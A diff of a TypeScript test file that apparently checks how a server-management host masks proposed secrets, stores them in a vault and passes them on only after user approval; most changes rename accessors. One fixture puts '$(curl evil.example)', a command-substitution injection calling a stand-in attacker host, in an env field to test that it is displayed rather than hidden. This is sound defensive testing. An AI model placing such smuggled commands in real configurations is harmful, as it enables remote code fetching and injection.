@@ -45,7 +45,10 @@ const entries = {
 
 test.each(Object.entries(entries))('a proposed server with a secret in its %s', async (_where, entry) => {
   await using core = await startCore({ servers: {} });
-  const { admin, vault } = core.host.core;
+  const {
+    servers: { admin },
+    trust: { vault },
+  } = core.host.core;
   const before = await vault.names('secret/');
   await admin.request({ kind: 'add', server: 's', entry }, author);
   const item = await onlyItem(core);
@@ -62,13 +65,13 @@ test.each(Object.entries(entries))('a proposed server with a secret in its %s', 
 
 test('passes a proposed secret to the server once the user approves, and keeps it in the vault', async () => {
   await using core = await startCore({ servers: {} });
-  await core.host.core.admin.request({ kind: 'add', server: 's', entry: entries.env }, author);
+  await core.host.core.servers.admin.request({ kind: 'add', server: 's', entry: entries.env }, author);
   const change = { kind: 'update', server: 's', fields: { env: { OTHER_TOKEN: `${planted}-2` } } } as const;
   await ask(core, 'approve', { id: (await onlyItem(core)).id });
-  await core.host.core.admin.request(change, author);
+  await core.host.core.servers.admin.request(change, author);
   await ask(core, 'approve', { id: (await onlyItem(core)).id });
   expect(await filesWithIt(core.home)).toEqual([]);
-  const { vault } = core.host.core;
+  const { vault } = core.host.core.trust;
   const values = [await vault.read('secret/SERVICE_TOKEN'), await vault.read('secret/OTHER_TOKEN')];
   expect(values).toEqual([planted, `${planted}-2`]);
 });
@@ -78,8 +81,8 @@ test.each(Object.entries(entries))(
   async (_where, entry) => {
     await using core = await startCore({ servers: {} }, { ownConfig: true });
     await core.write({ servers: { s: entry } });
-    await core.host.core.admin.reload();
-    await until(() => core.host.core.options.config.pendingEdits.length > 0);
+    await core.host.core.servers.admin.reload();
+    await until(() => core.host.core.context.config.pendingEdits.length > 0);
     const hidden = await onlyItem(core);
     expect(JSON.stringify(hidden)).not.toContain(planted);
     expect(hidden.parts.some(({ isMasked }) => isMasked)).toBe(true);
@@ -94,7 +97,7 @@ test('shows a line that differs when another program replaces a secret', async (
   const entry = (value: string) => ({ ...fixture('echo'), env: { SERVICE_TOKEN: value } });
   await using core = await startCore({ servers: { s: entry('the-first-value') } }, { ownConfig: true });
   await core.write({ servers: { s: entry(planted) } });
-  await core.host.core.admin.reload();
+  await core.host.core.servers.admin.reload();
   const { parts } = await onlyItem(core);
   const lines = parts.flatMap((part) => part.lines).filter(({ change }) => change !== 'same');
   expect(lines.map(({ what }) => what)).toEqual(['Variable SERVICE_TOKEN']);
@@ -118,7 +121,7 @@ test.each([
   ['a command of a shell', { command: 'x', env: { API_TOKEN: '$(curl evil.example)' } }, '$(curl evil.example)'],
 ])('%s is shown although it looks like a secret', async (_what, entry, shown) => {
   await using core = await startCore({ servers: {} });
-  await core.host.core.admin.request({ kind: 'add', server: 's', entry }, author);
+  await core.host.core.servers.admin.request({ kind: 'add', server: 's', entry }, author);
   const { parts } = await onlyItem(core);
   expect(JSON.stringify(parts)).toContain(shown);
   expect(JSON.stringify(parts)).not.toContain('pass-word-1');
